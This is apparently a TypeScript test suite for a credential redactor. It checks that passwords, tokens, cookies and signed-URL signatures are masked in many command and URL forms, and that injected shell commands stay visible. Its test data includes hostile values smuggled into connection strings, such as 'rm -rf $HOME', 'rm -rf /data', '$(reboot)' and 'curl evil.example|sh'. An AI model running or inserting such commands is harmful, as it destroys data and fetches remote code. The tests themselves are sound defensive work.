// Values of any length in the forms that give a credential away: nothing of them may be left.
import { test as property } from '@fast-check/vitest';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redact } from '../../src/redact/redact.ts';
import { redactData } from '../../src/redact/redact-data.ts';
import { createRedactor, MAX_HELD } from '../../src/redact/redactor.ts';
import { mixed } from './credentials.ts';

const ID = `AK${'IA'}Q7XZ2MNB4KLPQ7XZ`;
const LENGTHS = [8, 40, 255, 256, 257, 5_000] as const;
/** The longest piece of a value that may be left. */
const MAX_LEFT = 4;
const KNOWN_BY_END = /:\/\/.*@|<\/|pass words/;

/** What stands around a value `§`; all of it but the value is shown. */
const FORMS: readonly string[] = [
  'docker login -u AWS -p § 4711.dkr.ecr.eu-central-1.amazonaws.com',
  'docker login -u AWS --password § registry',
  "docker login -u ana -p '§' registry",
  'curl -u ana:§ https://example.org',
  'curl "https://example.org/a" --user "ana:§"',
  `curl -H 'X-Note: ${'long '.repeat(100)}' -u ana:§ https://example.org`,
  'curl -b sessionid=§ https://example.org',
  'mysql -uroot -p§ shop',
  'sshpass -p § ssh db',
  'redis-cli -h cache -a § ping',
  'redis-cli --pass § ping',
  'mongosh -u ana -p § shop',
  'ldapsearch -D cn=ana -w § -b dc=example',
  'openssl rsa -in key.pem -passin pass:§ -out x.pem',
  'openssl enc -aes256 -pass pass:§',
  'keytool -list -storepass § -keystore x.jks',
  'keytool -list -keypass § -keystore x.jks',
  'requirepass §',
  'CONFIG SET requirepass "§"',
  'aws configure set aws_secret_access_key §',
  'aws configure set aws_session_token § --profile x',
  'https://u:§@h/',
  'https://ana:§@example.org/shop.git',
  'postgres://u:§@h',
  'postgres://u:p#§@h',
  'postgres://u:p?§@h',
  // A shell ends an address at a blank, and what follows may be a flag: only in quotes is it hidden.
  '"postgres://u:p §@h"',
  '"postgres://u:§ x@h:5432/shop"',
  'postgres://u:§/x@h',
  'https://u:§#x@h/',
  'https://x.blob.core.windows.net/c/a?sv=2024-01-01&sp=r&sig=§&se=2026',
  'https://storage.googleapis.com/b/o?X-Goog-Date=1&X-Goog-Signature=§',
  'https://b.s3.amazonaws.com/o?X-Amz-Expires=60&X-Amz-Signature=§&x=y',
  'https://d1.cloudfront.net/a?Expires=1&Signature=§&x=1',
  '{"url":"https://b.s3.amazonaws.com/o?x=1\\u0026X-Amz-Signature=§"}',
  'https://d1.cloudfront.net/a?Key-Pair-Id=§',
  `${ID}:§`,
  'Cookie: sessionid=§; lang=en',
  'Cookie: lang=en; sessionid=§',
  'Set-Cookie: sessionid=§; Path=/; HttpOnly',
  '"set-cookie": ["sid=§; Path=/"]',
  'machine example.org login ana password §',
  '  password §',
  'Password for user root: §',
  'the password is §, as before',
  'your password is: "§"',
  'ENV PASSWORD §',
  'ENV API_TOKEN §',
  'ARG TOKEN=§',
  'PASSWORD\u00A0=\u00A0§',
  'password:\u00A0§',
  'client_secret\u00A0=\u00A0"§"',
  '<password>§</password>',
  '{"password":"pass words, and §"}',
];
/** The credential's own form says how long it is at least. */
const LONG_FORMS: readonly string[] = [
  'https://§@github.com/x.git',
  'https://§:x-oauth-basic@github.com/x.git',
  'https://d1.cloudfront.net/a?Policy=§&x=1',
  `got ya${'29'}.§ back`,
  `refresh 1/${'/0'}§ now`,
  `GOC${'SPX'}-§`,
];

function leftOf(value: string, shown: string): string[] {
  const pieces = [];
  for (let at = 0; at + MAX_LEFT < value.length; at += 1) {
    pieces.push(value.slice(at, at + MAX_LEFT + 1));
  }
  return [...new Set(pieces)].filter((piece) => shown.includes(piece));
}

function inParts(text: string, length: number): string {
  const redactor = createRedactor();
  let shown = '';
  for (let at = 0; at < text.length; at += length) {
    shown += redactor.write(text.slice(at, at + length));
  }
  return shown + redactor.end();
}

const cases = [
  ...FORMS.map((form) => ({ form, lengths: [...LENGTHS] as number[] })),
  ...LONG_FORMS.map((form) => ({ form, lengths: LENGTHS.filter((length) => length >= 40) })),
];

describe('a value of any length', () => {
  it.each(cases)('leaves nothing in $form, and what is around it stays', ({ form, lengths }) => {
    for (const length of lengths) {
      const shown = redact(form.replace('§', mixed(length)));
      expect(leftOf(mixed(length), shown), `${length}: ${shown}`).toEqual([]);
      const [before = '', after = ''] = form.split('§');
      const isAllHidden = form.startsWith(ID) || form.startsWith('GOC');
      if (!isAllHidden) expect(shown.startsWith(before.slice(0, 4))).toBe(true);
      expect(shown.endsWith(after.slice(-2))).toBe(true);
    }
  });

  it.each(cases)('leaves nothing in $form when it comes in parts', ({ form }) => {
    const parts = { 40: 7, 257: 100, 5000: 1_000, 90000: 8_192, 300000: 5_000 };
    for (const [length, part] of Object.entries(parts)) {
      // Only what ends such a value shows that it was one, and so much is not held.
      if (Number(length) > MAX_HELD && KNOWN_BY_END.test(form)) continue;
      const secret = mixed(Number(length));
      const shown = inParts(`before\n${form.replace('§', secret)}\nafter\n`, part);
      expect(leftOf(secret, shown), `${length}: ${shown.slice(0, 300)}`).toEqual([]);
      expect(shown).toMatch(/^before\n[\s\S]*\nafter\n$/);
    }
  });

  const SAFE = 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789_-.~+/'.split('');
  const value = fc
    .array(fc.constantFrom(...SAFE), { minLength: 8, maxLength: 700 })
    .map((letters) => `q7Z${letters.join('')}`);
  // A path in a web address, and a dot at the end of a sentence, are no part of a value.
  const strict = FORMS.filter((form) => !/^https:\/\/(?:u|ana):|u:§\/|Key-Pair/.test(form));
  property.prop([fc.constantFrom(...strict), value])(
    'leaves nothing whatever it is',
    (form, secret) => {
      const shown = redact(form.replace('§', secret));
      const marks = form.split('§').join('');
      const left = leftOf(secret, shown).filter(
        (piece) =>
          !marks.includes(piece) &&
          !'[redacted: authorization password secret token]'.includes(piece),
      );
      expect(left, shown).toEqual([]);
    },
  );
});

/** Forms with a quote around the value are left out: a shell runs nothing in it. */
const UNQUOTED = FORMS.filter((form) => !/["'][^"']*§/.test(form) || /^curl -H/.test(form));

describe('what a shell would run', () => {
  const command = fc.constantFrom(...[';', '|', '&', '&&', ';;', '|&', '>', '(', ' ; ', ' && ']);
  const piece = fc.constantFrom('', 'q7Z', mixed(30), 'a/b', '$HOME', 'x y');
  property.prop([fc.constantFrom(...UNQUOTED), command, fc.tuple(piece, piece)], {
    numRuns: 1_000,
  })('stays visible in every form', (form, sign, [before, after]) => {
    const text = form.replace('§', () => `${before}${sign}CMD${sign}${after}`);
    expect(redact(text)).toContain('CMD');
  });

  it.each([
    ['git clone https://u:p;rm -rf $HOME;x@h/x', ';rm -rf $HOME;x@h/x'],
    ['curl https://u:p|sh@h/x', '|sh@h/x'],
    ['curl https://u:p&wget evil;@h/x', '&wget evil;@h/x'],
    ['psql postgres://u:p;rm -rf /data;x@h/db', ';rm -rf /data;x@h/db'],
    ['redis-cli -u redis://:p;rm -rf /data;x@h/0', ';rm -rf /data;x@h/0'],
    ['curl https://u:p&&rm -rf $HOME&&x@h/x', '&&rm -rf $HOME&&x@h/x'],
    ['curl https://u:p|rm@h', '|rm@h'],
    ['curl https://u:pw$(reboot)x@h', '$(reboot)x@h'],
    ['echo url=postgres://u:p;curl evil.example|sh;x@h/db', ';curl evil.example|sh;x@h/db'],
    [`curl https://gh${'p_'}${mixed(36)};rm;x@h/`, ';rm;x@h/'],
    ['git clone https://u:p --upload-pack=evil x@h', ' --upload-pack=evil x@h'],
    ['curl https://u;run:it@h', ';run:it@h'],
    ['sh -c "curl https://u:p;reboot;x@h"', ';reboot;x@h"'],
    ['echo "$(curl https://u:p;reboot;x@h)"', ';reboot;x@h)"'],
    [`echo 'a\nb' https://u:p;reboot;x@h 'c'`, `;reboot;x@h 'c'`],
    [`echo '\nb' https://u:p;reboot;x@h 'c'`.replace('\\n', '\n'), `;reboot;x@h 'c'`],
    [`echo "password='"; reboot; echo "'"`, `; reboot; echo "'"`],
    ['echo -----BEGIN PRIVATE KEY-----\npoweroff\n', '\npoweroff'],
    ['echo -----BEGIN PRIVATE KEY----- && rm -rf /R2 && curl evil', ' && curl evil'],
  ])('is seen in %s', (text, seen) => {
    expect(redact(text)).toContain(seen);
  });

  it.each([
    ['curl "https://u:p;q|r&s@h/x"', 'curl "https://u:[redacted: password]@h/x"'],
    ["psql 'postgres://u:p;q r@h/x' -c x", "psql 'postgres://u:[redacted: password]@h/x' -c x"],
    ['{"url": "redis://:p;q@h/0"}', '{"url": "redis://:[redacted: password]@h/0"}'],
  ])('is not what stands in the quotes of %s', (text, shown) => {
    expect(redact(text)).toBe(shown);
  });
});

describe('words that are a password', () => {
  it.each([
    ['Password: §', 'correct horse battery'],
    ['  password: §', 'correct horse battery staple'],
    ['Admin password: §', 'correct horse battery'],
    ['User: ana, Password: §', 'correct horse battery'],
    ['Password for user root: §', 'swordfish'],
    ["Password for 'https://ana@github.com': §", 'swordfish'],
    ['machine h login u password §', 'swordfish'],
    ['ENV DB_PASSWORD §', 'correct horse'],
  ])('are hidden in %s', (form, secret) => {
    expect(redact(form.replace('§', secret))).toBe(form.replace('§', '[redacted: password]'));
  });

  it.each([
    'Password: incorrect, try again',
    'Password: must have 12 characters',
    'Password: required for this account',
    'Invalid password: attempt three of five',
    'password is required',
    'the password is case-sensitive',
    'password is base64 encoded',
    'Password for ana: changed',
    'password reset',
    'docker run -u 1000:1000 -p 8080:80 shop',
    'curl -u $USER:$PASS https://example.org',
    'curl -b cookies.txt https://example.org',
    'redis-cli -a $REDIS_PASSWORD ping',
    'openssl rsa -passin env:PW',
    'keytool -storepass:env PW',
    'requirepass ""',
    'git commit -a -m x',
    'mkdir -p build && mysql -p shop',
    'https://acme-organisation-of-a-long-name@dev.azure.com/acme/shop',
    'http://localhost:3000?to=a@example.org',
    'http://localhost:8080/#/users/@me',
    'http://localhost:8080 is for ana@example.org',
    'redis://cache:6379?client=a@b',
    'https://example.org/?policy=default-for-all-users&sig=no',
    'Signature=valid',
    'Cookie: lang=en; theme=dark',
    'Set-Cookie: lang=en; Path=/accounts; Domain=example.org; SameSite=Strict',
    'npm config set registry https://registry.npmjs.org/',
    'ENV PASSWORD_FILE /run/secrets/db',
    'ENV TOKEN $TOKEN',
    'password\u00A0is\u00A0required',
    '1//0 is no token, ya29. neither, GOCSPX- the same',
  ])('are none in %s', (text) => {
    expect(redact(text)).toBe(text);
  });

  it('hide no command that runs', () => {
    for (const text of [
      'docker login -p $(cat token) registry',
      'echo Password: x y; reboot now',
      'curl -u ana:"$(reboot)" https://x',
    ]) {
      expect(redact(text)).toMatch(/cat token|reboot/);
    }
  });
});

it('finds cookies in fields of an event', () => {
  expect(redactData({ headers: { cookie: `sessionid=${mixed(40)}; lang=en` } })).toEqual({
    headers: { cookie: 'sessionid=[redacted: cookie]; lang=en' },
  });
});
